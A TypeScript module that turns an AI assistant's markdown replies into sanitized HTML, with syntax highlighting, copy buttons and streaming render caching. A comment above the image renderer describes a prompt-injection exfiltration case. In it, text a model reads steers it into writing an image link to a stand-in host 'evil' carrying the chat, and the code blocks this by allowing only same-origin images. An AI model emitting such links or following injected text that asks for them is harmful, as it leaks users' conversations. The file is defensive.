/**
 * Markdown → sanitized HTML for assistant text: markdown-it (raw HTML off), highlight.js core
 * with a few languages (keeps the bundle lean), then DOMPurify. Code blocks get a header with the
 * language and, after sanitizing, a copy button (`data-copy-code`) wired by MarkdownView: the
 * sanitizer lets no button through, so model text can never make one. Imports no app modules.
 */
import MarkdownIt from "markdown-it";
import DOMPurify from "dompurify";
import hljs from "highlight.js/lib/core";
import bash from "highlight.js/lib/languages/bash";
import css from "highlight.js/lib/languages/css";
import diff from "highlight.js/lib/languages/diff";
import javascript from "highlight.js/lib/languages/javascript";
import json from "highlight.js/lib/languages/json";
import python from "highlight.js/lib/languages/python";
import typescript from "highlight.js/lib/languages/typescript";
import xml from "highlight.js/lib/languages/xml";
import yaml from "highlight.js/lib/languages/yaml";

const LANGUAGES = { bash, css, diff, javascript, json, python, typescript, xml, yaml };
for (const [name, lang] of Object.entries(LANGUAGES)) hljs.registerLanguage(name, lang);
hljs.registerAliases(["sh", "shell", "zsh", "console"], { languageName: "bash" });
hljs.registerAliases(["js", "mjs"], { languageName: "javascript" });
hljs.registerAliases(["ts"], { languageName: "typescript" });
hljs.registerAliases(["py"], { languageName: "python" });
hljs.registerAliases(["html", "svg"], { languageName: "xml" });
hljs.registerAliases(["yml"], { languageName: "yaml" });

function escapeHtml(s: string): string {
  return s.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]!);
}

const md = new MarkdownIt({ html: false, linkify: true, breaks: false, typographer: false });

/** What a render is told: while streaming, a memo of earlier highlights and whether the code is
 * still being written (then it is not highlighted yet). */
type RenderEnv = {
  memo?: RenderMemo;
  plain?: boolean;
};

/** A code block's copy button: its visible label and its tooltip. */
export type CopyLabels = { copy: string; title: string };
const COPY_LABELS: CopyLabels = { copy: "Copy", title: "Copy code" };

function codeBody(content: string, lang: string, env: RenderEnv): string {
  if (!lang || !hljs.getLanguage(lang) || env.plain) return escapeHtml(content);
  const highlight = () => hljs.highlight(content, { language: lang, ignoreIllegals: true }).value;
  return env.memo ? env.memo.get(`h:${lang}:${content}`, highlight) : highlight();
}

md.renderer.rules.fence = (tokens, idx, _options, env) => {
  const token = tokens[idx];
  const lang = (token.info || "").trim().split(/\s+/)[0].toLowerCase();
  const body = codeBody(token.content, lang, (env ?? {}) as RenderEnv);
  // The head's exact shape is what `addCopyButtons` looks for once the HTML is sanitized.
  return (
    `<div class="oc-code"><div class="oc-code-head"><span>${escapeHtml(lang || "text")}</span></div>` +
    `<pre><code class="hljs">${body}</code></pre></div>`
  );
};

/**
 * A copy button in each code block's head, added to sanitized HTML. A head in that HTML can only
 * be the fence renderer's: raw HTML in model text is escaped (and a `<` in text serializes as
 * `&lt;`), and the sanitizer drops every `<button>`, so the only buttons are these.
 */
const CODE_HEAD = /<div class="oc-code-head"><span>([^<]*)<\/span><\/div>/g;
function addCopyButtons(html: string, labels: CopyLabels): string {
  const button = `<button type="button" class="oc-code-copy" data-copy-code="" title="${escapeHtml(labels.title)}">${escapeHtml(labels.copy)}</button>`;
  return html.replace(CODE_HEAD, (_, lang: string) => `<div class="oc-code-head"><span>${lang}</span>${button}</div>`);
}

/**
 * A model's reply can be steered by what it reads (a web page, a workflow's notes) into writing
 * `![](https://evil/?q=<the chat>)`, which a browser would fetch unasked. So only images on this
 * page's own server (a path like `/view?…`) are shown; any other becomes a link to click.
 */
const renderImage = md.renderer.rules.image!;
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = String(token.attrGet("src") ?? "");
  if (/^\/(?![\/\\])/.test(src)) return renderImage(tokens, idx, options, env, self);
  const alt = self.renderInlineAsText(token.children ?? [], options, env) || src;
  return `<a href="${escapeHtml(src)}" class="oc-remote-image">${escapeHtml(alt)}</a>`;
};

let purifier: ReturnType<typeof DOMPurify> | null = null;

function sanitizer(): ReturnType<typeof DOMPurify> {
  if (purifier) return purifier;
  purifier = DOMPurify(window);
  purifier.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A") {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
  });
  return purifier;
}

/** Markdown to HTML, before sanitizing (raw HTML is already escaped, unsafe links refused). */
export function markdownToHtml(source: string): string {
  return md.render(source, {});
}

function sanitize(html: string): string {
  return sanitizer().sanitize(html, {
    ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|\/|#)/i,
    // No button: the copy buttons are added after sanitizing, so none can come from model text.
    FORBID_TAGS: ["style", "form", "input", "textarea", "select", "button"],
    FORBID_ATTR: ["style"],
  });
}

/** Render markdown to HTML that is safe for `v-html`, with a copy button on each code block. */
export function renderMarkdown(source: string, labels: CopyLabels = COPY_LABELS): string {
  return addCopyButtons(sanitize(markdownToHtml(source)), labels);
}

/**
 * What one message's last render made (highlighted code, sanitized blocks), so the next render of
 * the same growing text redoes only what changed. It keeps what the last render used, no more.
 */
export class RenderMemo {
  private last = new Map<string, string>();
  private next = new Map<string, string>();

  get(key: string, make: () => string): string {
    const value = this.next.get(key) ?? this.last.get(key) ?? make();
    this.next.set(key, value);
    return value;
  }

  /** A render is done: forget what it did not use. */
  settle(): void {
    this.last = this.next;
    this.next = new Map();
  }
}

/**
 * Markdown as safe HTML, one string per top-level block (paragraph, list, code block…), the same
 * HTML `renderMarkdown` makes, cut at block boundaries. A streamed reply grows at its end: with
 * the blocks before it unchanged, each is highlighted and sanitized once (`memo`) and its DOM is
 * left alone. `streaming`: the last block may be unfinished; a code block there is shown plain
 * until another block follows it or the reply ends, rather than highlighted again every frame.
 */
export function renderBlocks(source: string, memo: RenderMemo, opts: { labels?: CopyLabels; streaming?: boolean } = {}): string[] {
  const env: RenderEnv = { memo };
  const labels = opts.labels ?? COPY_LABELS;
  // One parse of the whole text, so references and numbering are those of the whole reply.
  const tokens = md.parse(source, env);
  const blocks: string[] = [];
  let start = 0;
  for (let i = 0; i < tokens.length; i++) {
    if (tokens[i].level !== 0 || tokens[i].nesting === 1) continue; // not the end of a top-level block
    const last = i === tokens.length - 1;
    const html = md.renderer.render(tokens.slice(start, i + 1), md.options, { ...env, plain: opts.streaming && last });
    blocks.push(memo.get(`s:${labels.copy}\n${labels.title}\n${html}`, () => addCopyButtons(sanitize(html), labels)));
    start = i + 1;
  }
  memo.settle();
  return blocks;
}
